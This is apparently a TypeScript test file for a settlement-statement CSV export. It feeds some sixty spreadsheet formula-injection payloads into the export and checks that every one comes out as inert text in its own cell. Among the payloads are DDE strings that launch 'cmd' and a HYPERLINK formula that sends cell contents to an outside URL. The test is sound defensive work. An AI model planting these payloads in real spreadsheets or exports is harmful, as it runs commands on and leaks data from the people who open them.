import type { Service } from "../../src/rules/codes.js";
import { parse } from "csv-parse/sync";
import type { Statement, StatementRow } from "../../src/features/settlement/documents/statement.js";
import { statementCsv } from "../../src/features/settlement/documents/statement-csv.js";

/** What a spreadsheet may take for a formula: the signs, their full-width and small forms, tab and line ends. */
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
const LEADS = ["", " ", "\u00a0", "   "];
const WHOLE = [
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://example.org?"&A1,"Open")',
  "-2+3+cmd|'/c calc'!A0",
  "-15,00+1",
  "-15,0",
  "-15.00",
  "+4520000000",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1";=2+2',
  "=1\r\n=2",
  "=1\n;=2;",
  '" =1',
  "a;=1+1",
  'a";"=1+1',
  "a\r\n=1+1",
  "|cmd",
  "%0A=1",
];
const PAYLOADS = [...TRIGGERS.flatMap((t) => LEADS.map((lead) => `${lead}${t}1+1`)), ...WHOLE];

const row = (text: string): StatementRow => ({
  bookingId: "b",
  lineId: "l",
  bookingReference: text,
  treatedOn: "2026-11-01",
  service: text as Service,
  sessionNumber: 2,
  kind: "CORRECTION",
  grossMinor: 123_456_789n,
  publicMinor: 0n,
  amountMinor: -5_005n,
  state: "PAID",
  reason: null,
  because: [text],
  readyOn: "2026-11-02",
  expectedOn: "2026-11-03",
  paidOn: null,
  paymentId: null,
  endToEndId: text,
  selfBillNumber: text,
});
const opened = (text: string): Record<string, string>[] =>
  parse(statementCsv({ rows: [row(text)] } as unknown as Statement), { bom: true, delimiter: ";", columns: true });

describe("the spreadsheet of a statement", () => {
  it("is tried with at least sixty payloads", () => expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(60));

  it.each(PAYLOADS)("holds %j as text in its own cell, and numbers as numbers", (payload) => {
    const [cells, ...more] = opened(payload);
    expect(more).toEqual([]);
    const texts = ["Booking", "Service", "Self-bill", "Bank reference", "Because"].map((column) => cells?.[column] ?? "");
    for (const text of texts) {
      expect(TRIGGERS).not.toContain(text.trimStart()[0]);
      expect([payload, `'${payload}`]).toContain(text);
    }
    expect(cells).toMatchObject({
      "Gross DKK": "1234567,89",
      "Public share DKK": "0,00",
      "Amount DKK": "-50,05",
      Session: "2",
      "Treated on": "2026-11-01",
    });
  });

  it("leaves ordinary text as it is", () => {
    for (const text of ["B-1001", "PHYSIOTHERAPY", "SB-00000001", "Æbleø; 2. sal", 'say "hi"', ""])
      expect(opened(text)[0]?.["Booking"]).toBe(text);
  });
});
